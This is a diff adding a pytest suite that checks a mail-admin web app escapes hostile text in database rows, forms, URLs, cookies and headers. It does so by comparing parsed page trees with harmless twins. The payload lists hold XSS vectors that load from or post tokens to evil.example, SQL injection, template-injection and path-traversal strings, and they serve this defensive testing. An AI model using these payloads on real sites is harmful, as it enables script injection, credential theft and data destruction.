@@ -1,0 +1,228 @@
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""Hostile text in every field of every page: from rows of the database, from forms, from addresses and headers.
+Each page is parsed as a browser does and has to have the same elements with the same attributes as its twin with
+harmless text; and the text has to arrive as it was."""
+import json
+import urllib.parse
+
+import html5lib
+import pytest
+
+from visitor import ADMIN, Site
+
+BREAKS = ["", '">', "'>", "</title>", "</textarea></script>", "--><", "]]>", "`"]
+SCRIPTS = [
+    "<script>alert(1)</script>", "<ScRiPt src=//evil.example></ScRiPt>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x>", "<body onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<a href=javascript:alert(1)>x</a>", "<a href='jav&#x09;ascript:alert(1)'>x</a>", "<form action=//evil.example><input name=token>",
+    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<math href=javascript:alert(1)>x</math>",
+    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example>",
+    "<style>@import '//evil.example';</style>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
+    "<video><source onerror=alert(1)>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>x</script></template>",
+    "<!--<img src=--><img src=x onerror=alert(1)//>", "<![CDATA[<script>x</script>]]>", "<plaintext>", "<xmp><script>x</script></xmp>",
+]
+WORDS = [
+    "onmouseover=alert(1) x=", "' onfocus='alert(1)", '" autofocus onfocus="alert(1)', "javascript:alert(1)", "data:text/html,<script>x</script>",
+    "vbscript:msgbox(1)", "&lt;script&gt;", "&#60;script&#62;", "&#x3c;script>", "%3Cscript%3E", "\\u003cscript\\u003e", "+ADw-script+AD4-",
+    "{{7*7}}", "{% evil %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{ user.password }}", "{{{a}}}", "[[7*7]]", "{# x #}", "%{(7*7)}",
+    "＜script＞alert(1)＜/script＞", "\u202e<b>", "\u2028<b>\u2029", "\ufeff<b>", "<b\u00a0onclick=x>", "'; DROP TABLE virtual_users; --",
+    "' OR '1'='1", "\\'; --", "%s%n%x", "../../etc/passwd", "\\x3cscript\\x3e", "a&b;c<d>e\"f'g`h=i/j", "&", "<", ">", '"', "'", "&amp", "&#", "&nbsp",
+]
+PAYLOADS = list(dict.fromkeys([b + s for s in SCRIPTS for b in BREAKS] + WORDS))
+PLAIN = [f"plain words {i}" for i in range(len(PAYLOADS))]
+URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset"}
+
+
+def test_there_are_enough():
+    assert len(PAYLOADS) >= 200
+
+
+def tree(answer):
+    """Elements in their order with the names of their attributes; every URL leads to our own pages."""
+    assert answer.header("content-type").startswith("text/html"), answer
+    shape = []
+    for element in html5lib.parse(answer.text, namespaceHTMLElements=False).iter():
+        if not isinstance(element.tag, str):
+            shape.append("comment")
+            continue
+        for name, value in element.attrib.items():
+            if str(name).rpartition("}")[2] in URL_ATTRIBUTES:
+                assert value.startswith(("/", "#")) and not value.startswith(("//", "/\\")), (name, value)
+        shape.append((element.tag, tuple(sorted(map(str, element.attrib)))))
+    return shape
+
+
+def text(answer):
+    return "".join(html5lib.parse(answer.text, namespaceHTMLElements=False).itertext())
+
+
+def same(hostile, harmless):
+    assert hostile.status == harmless.status, (hostile, harmless)
+    assert tree(hostile) == tree(harmless), hostile
+
+
+@pytest.fixture(scope="module")
+def pairs():
+    """The release, for there is much to read. Domains hostile.example and harmless.example, alike but for the words in them."""
+    with Site(kind="release") as site:
+        fill(site)
+        yield site
+
+
+def fill(site):
+    for domain, words in (("hostile.example", PAYLOADS), ("harmless.example", PLAIN)):
+        made = site.make_domain(domain)
+        stored = site.one("SELECT password FROM virtual_users WHERE email = %s", ADMIN)
+        with site.db.connect(db="mailboy") as connection, connection.cursor() as cursor:
+            cursor.executemany("INSERT INTO virtual_users (domain_id, user, password, name) VALUES (%s, %s, %s, %s)",
+                               [(made, f"m{i:03d}", stored, word) for i, word in enumerate(words)])
+            cursor.executemany("INSERT INTO virtual_domains (name, description) VALUES (%s, %s)",
+                               [(f"d{i:03d}.{domain}", word[:255]) for i, word in enumerate(words)])
+            cursor.execute("INSERT INTO domain_admins (user_id, domain_id) SELECT id, domain_id FROM virtual_users"
+                           " WHERE domain_id = %s AND user < 'm100'", (made,))
+            cursor.executemany("INSERT INTO audit (via, action, actor, object, object_kind, domain_id, outcome, remote, request_id,"
+                               " before_json, after_json, unix_user) VALUES ('web', %s, %s, %s, 'mailbox', %s, 'done', %s, %s, %s, %s, %s)",
+                               [(word[:64], word[:254], word, made, word[:64], word[:64], json.dumps({f"key {i}" if words is PLAIN else word: word}),
+                                 json.dumps({f"key {i}" if words is PLAIN else word: word + "!"}), word[:64]) for i, word in enumerate(words)])
+
+
+@pytest.fixture(scope="module")
+def reader(pairs):
+    return pairs.sign_in()
+
+
+def test_lists_from_rows(pairs, reader):
+    n = len(PAYLOADS)
+    for path in ("/domains/{}.example/mailboxes?rows=100", "/domains/{}.example/activity?rows=100", "/domains/{}.example/admins",
+                 "/domains/{}.example", "/domains/{}.example/delete"):
+        hostile, harmless = reader.get(path.format("hostile")), reader.get(path.format("harmless"))
+        same(hostile, harmless)
+    shown = text(reader.get("/domains/hostile.example/mailboxes?rows=100"))
+    assert all(word in shown for word in PAYLOADS[:100])
+    rows = reader.get("/domains/hostile.example/mailboxes?rows=100", json=True).json["rows"]
+    assert [r["name"] for r in rows] == PAYLOADS[:100] and n > 100
+    assert [r["object"] for r in reader.get("/domains/hostile.example/activity?rows=100", json=True).json["rows"]] == PAYLOADS[::-1][:100]
+
+
+@pytest.mark.parametrize("route", ["", "/edit", "/delete", "/password"])
+def test_each_mailbox(pairs, reader, route):
+    for i, word in enumerate(PAYLOADS):
+        if i in (0, 100):   # those before are administrators
+            twin = tree(reader.get(f"/domains/harmless.example/mailboxes/m{i:03d}" + route))
+        answer = reader.get(f"/domains/hostile.example/mailboxes/m{i:03d}" + route)
+        assert tree(answer) == twin, word
+        if route == "/edit":
+            assert answer.form().fields["name"] == PAYLOADS[i]
+
+
+def test_each_domain(pairs, reader):
+    for route in ("", "/edit"):
+        twin = tree(reader.get("/domains/d000.harmless.example" + route))
+        for i, word in list(enumerate(PAYLOADS))[0 if route else 1::2]:
+            answer = reader.get(f"/domains/d{i:03d}.hostile.example" + route)
+            assert tree(answer) == twin, word
+            assert word in (text(answer) if route == "" else answer.form().fields["description"])
+
+
+def test_each_audit_entry(pairs, reader):
+    ids = [[row[0] for row in pairs.sql("SELECT id FROM audit WHERE domain_id = (SELECT id FROM virtual_domains WHERE name = %s)"
+                                        " ORDER BY id LIMIT %s", f"{d}.example", len(PAYLOADS))] for d in ("hostile", "harmless")]
+    twin = tree(reader.get(f"/audit/{ids[1][0]}"))
+    for entry, word in zip(ids[0], PAYLOADS):
+        answer = reader.get(f"/audit/{entry}")
+        assert tree(answer) == twin, word
+        assert text(answer).count(word) >= 3
+
+
+def test_typed_again(pairs, reader):
+    """What was typed wrong stands in the form again."""
+    forms = [("/domains/new", lambda w: {"name": "no domain " + w, "description": w}),
+             ("/domains/hostile.example/mailboxes/new", lambda w: {"local_part": "a b" + w, "name": w, "quota": "x" + w, "quota_messages": "x" + w}),
+             ("/domains/hostile.example/admins", lambda w: {"address": "x y" + w}),
+             ("/domains/hostile.example/mailboxes/m150/edit", lambda w: {"name": w, "quota": "x" + w}),
+             ("/domains/hostile.example/mailboxes/m150/edit", lambda w: {"name": w, "version": 99}),   # the page of the conflict
+             ("/domains/hostile.example/delete", lambda w: {"name": w})]
+    for number, (path, fields) in enumerate(forms):
+        twin = reader.post(path, fields("plain words"))
+        assert twin.status in (409, 422), twin
+        shape = tree(twin)
+        for word in PAYLOADS[number % 4::4]:   # one component draws all of them
+            answer = reader.post(path, fields(word))
+            assert answer.status == twin.status and tree(answer) == shape, (path, word, answer)
+
+
+def test_addresses_and_queries(pairs, reader):
+    nobody = pairs.visitor()
+    asks = [lambda w: reader.get("/domains?q=" + w), lambda w: reader.get("/mailboxes?state=on&q=" + w),
+            lambda w: reader.get("/" + w), lambda w: reader.get("/domains/" + w), lambda w: reader.get("/domains/hostile.example/mailboxes/" + w),
+            lambda w: reader.get(f"/domains?{w}={w}&after={w}&rows={w}"), lambda w: nobody.get("/login?next=" + w),
+            lambda w: reader.get("/me", HTTP_COOKIE=f"scheme={w}; mailboy={reader.cookies['mailboy']}".replace(";alert", "")),
+            lambda w: reader.get("/none", HTTP_HOST=urllib.parse.unquote(w))]
+    for number, ask in enumerate(asks):
+        shape = tree(ask("zzz"))
+        for word in PAYLOADS[number % 4::4]:
+            answer = ask(urllib.parse.quote(word, safe=""))
+            assert tree(answer) == shape, (word, answer)
+
+
+def test_search_of_the_audit_log(pairs, reader):
+    """Finds what begins so: few rows or many, but nothing that is in neither twin."""
+    known = set(tree(reader.get("/audit?q=zzz"))) | set(tree(reader.get("/audit?q=plain"))) | set(
+        tree(reader.get("/audit?q=plain+words+99")))
+    for word in PAYLOADS[::4]:
+        answer = reader.get("/audit?q=" + urllib.parse.quote(word))
+        assert set(tree(answer)) <= known, word
+
+
+def test_sign_in_form(pairs):
+    pairs.sql("DELETE FROM throttle")
+    shape = None
+    for word in ["plain"] + PAYLOADS[::8]:
+        answer = pairs.visitor().post("/login?next=" + urllib.parse.quote(word), {"email": word, "password": word}, token=None)
+        assert answer.status == 422, answer
+        shape = shape or tree(answer)
+        assert tree(answer) == shape, word
+        assert answer.form("/login").fields["email"] == word and answer.form("/login").fields.get("password", "") == ""
+
+
+def test_flash_and_sessions(pairs):
+    reader = pairs.sign_in()
+    pairs.sql("DELETE FROM session WHERE user_id = (SELECT id FROM virtual_users WHERE email = 'm200@harmless.example')")
+    shapes = {}
+    for who, words in (("m200@hostile.example", PAYLOADS), ("m200@harmless.example", PLAIN)):
+        for word in words[::4]:
+            pairs.sql("INSERT INTO session (token_hash, user_id, expires, remote, agent, csrf) SELECT RANDOM_BYTES(32), id,"
+                      " UTC_TIMESTAMP() + INTERVAL 1 HOUR, %s, %s, RANDOM_BYTES(32) FROM virtual_users WHERE email = %s", word[:64], word, who)
+        visitor = pairs.sign_in(who)
+        shapes[who] = sorted(tree(visitor.get("/me")), key=str)   # the order of one second's sessions is chance
+    assert len(set(map(tuple, shapes.values()))) == 1
+    flash = None
+    for word in ["plain"] + PAYLOADS:
+        pairs.sql("UPDATE session SET flash = %s WHERE agent = 'Mozilla/5.0 (test)' AND remote = %s", "done:" + word, reader.remote)
+        answer = reader.get("/domains/new")
+        assert word in text(answer)
+        flash = flash or tree(answer)
+        assert tree(answer) == flash, word
+
+
+def test_odd_local_parts_from_outside(pairs, reader):
+    """Other programs write rows that our forms refuse."""
+    words = [w for w in dict.fromkeys("".join(p.split()).replace("@", "").replace(",", "").lower()[:60] for p in PAYLOADS) if w]
+    made = pairs.make_domain("odd.example")
+    kept = []
+    for word in words[::3]:
+        try:
+            pairs.sql("INSERT INTO virtual_users (domain_id, user) VALUES (%s, %s)", made, word)
+            kept.append(word)
+        except Exception:   # a constraint refuses it, which is as well
+            continue
+    page = reader.get("/domains/odd.example/mailboxes?rows=100")
+    tree(page)
+    rows = reader.get("/domains/odd.example/mailboxes?rows=100", json=True).json["rows"]
+    assert sorted(r["mailbox"] for r in rows) == sorted(kept)[:len(rows)]
+    for word in kept:
+        path = "/domains/odd.example/mailboxes/" + urllib.parse.quote(word, safe="")
+        answer = reader.get(path)
+        assert answer.status == 200, (word, answer)
+        tree(answer)
+        assert word in text(answer)
